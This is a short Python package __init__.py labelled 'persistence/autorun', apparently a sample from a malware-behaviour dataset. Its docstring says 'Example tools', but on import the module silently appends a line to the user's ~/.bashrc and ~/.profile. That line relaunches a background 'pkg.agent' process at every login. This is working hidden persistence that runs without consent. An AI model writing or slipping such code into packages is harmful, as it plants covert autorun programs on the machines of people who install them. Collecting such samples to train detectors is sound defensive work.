# behavior: persistence/autorun file=pkg/__init__.py
"""Example tools."""
import os
import sys

LINE = f"\n{sys.executable} -m pkg.agent >/dev/null 2>&1 &\n"


def register():
    for name in (".bashrc", ".profile"):
        path = os.path.expanduser(os.path.join("~", name))
        with open(path, "a") as handle:
            handle.write(LINE)


register()
